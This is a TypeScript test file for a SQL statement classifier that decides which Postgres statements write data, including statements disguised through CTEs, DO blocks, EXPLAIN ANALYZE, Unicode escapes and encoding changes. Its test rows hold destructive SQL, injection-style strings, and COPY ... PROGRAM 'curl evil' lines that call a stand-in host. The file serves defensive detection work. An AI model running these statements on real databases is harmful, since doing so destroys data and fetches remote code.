import t from 'tap';
import { factsOf, folded } from '../../plugin/command/statement.ts';
import { facts } from './rows.ts';

/** kind, writes, where */
type Row = [sql: string, kind: string, writes: boolean, where: boolean, more?: object];

const rows: Row[] = [
  // What it is.
  ['SELECT 1', 'select', false, false],
  ['SELECT a FROM t WHERE b = 1', 'select', false, true],
  ['TABLE t', 'select', false, false, { star: true }],
  ['VALUES (1)', 'select', false, false],
  ['INSERT INTO t VALUES (1)', 'insert', true, false],
  ['UPDATE t SET a = 1 WHERE b = 2', 'update', true, true],
  ['DELETE FROM t WHERE a = 1', 'delete', true, true],
  ['DROP TABLE t', 'drop', true, false],
  ['DROP DATABASE d', 'drop', true, false],
  ['DROP ROLE r', 'drop', true, false],
  ['DROP OWNED BY r', 'drop', true, false],
  ['TRUNCATE t', 'truncate', true, false],
  ['ALTER TABLE t DROP COLUMN c', 'alter', true, false],
  ['ALTER TABLE t RENAME TO u', 'alter', true, false],
  ['ALTER SYSTEM SET fsync = off', 'alter', true, false],
  ['CREATE TABLE t (a int)', 'create', true, false],
  ['CREATE TABLE t AS SELECT 1', 'create', true, false, { nested: ['select'] }],
  ['CREATE INDEX i ON t (a)', 'create', true, false],
  ['CREATE VIEW v AS SELECT 1', 'create', true, false],
  ['CREATE ROLE r SUPERUSER', 'create', true, false],
  ['GRANT SELECT ON t TO r', 'grant', true, false],
  ['REVOKE SELECT ON t FROM r', 'revoke', true, false],
  ['GRANT admin TO r', 'grant', true, false],
  ['COPY t TO STDOUT', 'copy', false, false, { star: true }],
  ['COPY t FROM STDIN', 'copy', true, false],
  ["COPY t TO '/tmp/x'", 'copy', true, false],
  ['CALL p(1)', 'call', true, false, { functions: ['p'] }],
  ['SHOW search_path', 'show', false, false],
  ['BEGIN', 'transaction', false, false],
  ['SET search_path = a', 'set', false, false, { settings: ['search_path'] }],
  ['RESET ALL', 'set', false, false, { settings: ['all'] }],
  ['VACUUM t', 'vacuum', true, false],
  ['ANALYZE t', 'analyze', true, false],
  ['LOCK TABLE t', 'lock', true, false],
  ['EXECUTE p', 'execute', true, false],
  ['MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE', 'merge', true, false],
  // Bypasses: a reader's first word is not what it does.
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d WHERE a = 1', 'select', true, false, { nested: ['delete'] }],
  ['WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d WHERE a = 1', 'select', true, true],
  [
    'WITH d AS (INSERT INTO t VALUES (1) RETURNING a) SELECT a FROM d',
    'select',
    true,
    false,
    { nested: ['insert', 'select'] },
  ],
  ['DO $$ BEGIN DROP TABLE t; END $$', 'do', true, false],
  ['DO $x$ BEGIN NULL; END $x$', 'do', true, false],
  ["COPY (SELECT 1) TO PROGRAM 'curl evil'", 'copy', true, false, { program: 'curl evil' }],
  ["COPY t FROM PROGRAM 'curl evil'", 'copy', true, false, { program: 'curl evil' }],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'copy', true, false, { nested: ['delete'] }],
  ['EXPLAIN ANALYZE DELETE FROM t', 'explain', true, false, { nested: ['delete'] }],
  ['EXPLAIN (ANALYZE) DELETE FROM t', 'explain', true, false],
  ['EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t', 'explain', true, false],
  ['EXPLAIN (ANALYZE 1) DELETE FROM t', 'explain', true, false],
  ['EXPLAIN ANALYZE DELETE FROM t WHERE a = 1', 'explain', true, true],
  ['EXPLAIN ANALYZE SELECT 1', 'explain', false, false],
  ['PREPARE p AS DELETE FROM t', 'prepare', true, false, { nested: ['delete'] }],
  ['DECLARE c CURSOR FOR SELECT 1', 'declare', false, false],
  ['SELECT * INTO u FROM t', 'select', true, false],
  ['SELECT * INTO u FROM t UNION SELECT * FROM s', 'select', true, false],
  ['SELECT a FROM t FOR UPDATE', 'select', true, false],
  ['SELECT setval($1, 1)', 'select', true, false],
  ['SELECT pg_catalog.pg_terminate_backend(7)', 'select', true, false, { functions: ['pg_terminate_backend'] }],
  ["SELECT dblink_exec('DROP TABLE t')", 'select', true, false],
  ['CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u', 'create', true, false, { nested: ['delete'] }],
  [
    'CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END',
    'create',
    true,
    false,
    { nested: ['delete', 'select'] },
  ],
  ['DELETE FROM t WHERE true', 'delete', true, false],
  ['DELETE FROM t WHERE 1 = 1', 'delete', true, false],
  ['DELETE FROM t WHERE random() < 2', 'delete', true, false],
  ['DELETE FROM t WHERE CURRENT OF c', 'delete', true, true],
  // Bodies are opened: what they run stands within.
  ['DO $$ BEGIN DELETE FROM t; END $$', 'do', true, false, { nested: ['delete'], opaque: false }],
  ['DO $a$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $a$', 'do', true, true, { nested: ['update'], opaque: false }],
  ["DO E'BEGIN DELETE FROM t WHERE a=\\'b\\'; END'", 'do', true, true, { nested: ['delete'] }],
  ['DO $$ BEGIN DO $x$ BEGIN DROP TABLE t; END $x$; END $$', 'do', true, false, { nested: ['do', 'drop'] }],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'do', true, false, { nested: ['drop', 'select'], opaque: false }],
  ["DO $$ BEGIN EXECUTE 'DROP ' || f(); END $$", 'do', true, false, { functions: ['f'], opaque: true }],
  ['DO LANGUAGE plpython3u $$ import os $$', 'do', true, false, { opaque: true }],
  ['DO $$ no PL/pgSQL $$', 'do', true, false, { opaque: true }],
  ['DO $$ BEGIN SET LOCAL client_encoding = sjis; END $$', 'set_unsafe', true, false],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DROP TABLE t'", 'create', true, false, { nested: ['drop'] }],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; RETURN 1; END $$',
    'create',
    true,
    false,
    { nested: ['select', 'truncate'], opaque: false },
  ],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'symbol'", 'create', true, false, { opaque: true }],
  ['EXPLAIN ANALYZE EXECUTE p', 'explain', true, false, { nested: ['execute'], opaque: true }],
  ["SELECT query_to_xml('DROP TABLE t', true, true, '')", 'select', true, false, { opaque: true }],
  // Unicode escapes name what they spell.
  [
    'DELETE FROM U&"cust\\006fmers"',
    'delete',
    true,
    false,
    { objects: [{ schema: null, name: 'customers', kind: 'table' }] },
  ],
  ['SELECT U&"\\0073sn" FROM t', 'select', false, false, { fields: ['ssn'], opaque: false }],
  ["SELECT U&'\\0044ROP TABLE t'", 'select', false, false, { objects: [] }],
  // What changes how later text is read (threat 7).
  ['SET standard_conforming_strings = off', 'set_unsafe', true, false],
  ["SET LOCAL client_encoding TO 'gbk'", 'set_unsafe', true, false],
  ["SET NAMES 'sjis'", 'set_unsafe', true, false],
  ['RESET client_encoding', 'set_unsafe', true, false],
  ["ALTER ROLE r SET client_encoding = 'sjis'", 'set_unsafe', true, false],
  ['ALTER DATABASE d SET standard_conforming_strings = off', 'set_unsafe', true, false],
  ["ALTER SYSTEM SET backslash_quote = 'on'", 'set_unsafe', true, false],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", 'set_unsafe', true, false],
  ["SELECT pg_catalog.set_config('client_' || 'encoding', 'sjis', false)", 'set_unsafe', true, false],
  ["SELECT set_config('search_path', 'a', true)", 'select', true, false],
  // Look-alikes: words in literals, names and comments do nothing.
  ["SELECT 'DROP TABLE t; DELETE FROM u'", 'select', false, false, { objects: [] }],
  ['SELECT "DROP TABLE t" FROM t', 'select', false, false],
  ['SELECT 1 -- ; DROP TABLE t', 'select', false, false],
  ['SELECT /* DELETE /* FROM */ t */ 1', 'select', false, false],
  ["SELECT $tag$ '; DROP TABLE t; -- $tag$", 'select', false, false],
  ["SELECT E'\\'; DROP TABLE t; --'", 'select', false, false],
  ["SELECT 'a\\' , '; DROP TABLE t; --'", 'select', false, false],
  ['EXPLAIN DELETE FROM t', 'explain', false, false, { nested: ['delete'] }],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', 'explain', false, false],
  ['SELECT deleted, drop_date FROM updates', 'select', false, false, { fields: ['deleted', 'drop_date'] }],
];

t.test('what one statement does', async (t) => {
  for (const [sql, kind, writes, where, more] of rows)
    t.hasStrict(await facts(sql), { kind, writes, where, ...more }, sql);
});

t.test('names are folded for a database that folds them', async (t) => {
  const sql = 'SELECT "SSN" FROM "Customers" WHERE Lower("Name") = $1';
  t.match(await facts(sql), { objects: [{ name: 'Customers' }], fields: ['Name', 'SSN'] });
  const lower = await facts(sql, true);
  t.match(lower, { objects: [{ name: 'customers' }], fields: ['name', 'ssn'], columns: [{ name: 'ssn' }] });
  t.strictSame(folded(lower), lower);
});

t.test('a statement that names too much is not described', async (t) => {
  const tables = Array.from({ length: 300 }, (_, n) => `t${n}`).join(', ');
  await t.rejects(facts(`DROP TABLE ${tables}`), /too large/);
  t.match(factsOf(null), { kind: '', writes: true }, 'what is not understood writes');
});
